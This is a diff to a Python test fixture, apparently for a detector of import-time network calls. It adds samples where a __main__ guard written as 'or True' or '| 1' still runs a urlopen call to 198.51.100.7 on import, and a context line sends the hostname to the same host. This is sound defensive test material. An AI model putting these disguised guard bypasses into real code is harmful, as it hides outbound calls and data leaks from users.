@@ -38,6 +38,11 @@ _IMPORT_TIME_NETWORK = {
     "requests.get('http://198.51.100.7/i', params={'h': socket.gethostname()})\n",
     "class-body": "import urllib.request\n\n\nclass Build:\n"
     "    marker = urllib.request.urlopen('http://198.51.100.7/')\n",
+    # attack11: a guard's line that goes on past the comparison, which an import runs
+    "guard-or-true": "import urllib.request\n\nif __name__ == '__main__' or True:\n"
+    "    urllib.request.urlopen('http://198.51.100.7/ping')\n",
+    "guard-bitor": "import urllib.request\n\nif (__name__ == '__main__') | 1:\n"
+    "    urllib.request.urlopen('http://198.51.100.7/ping')\n",
 }
 
 
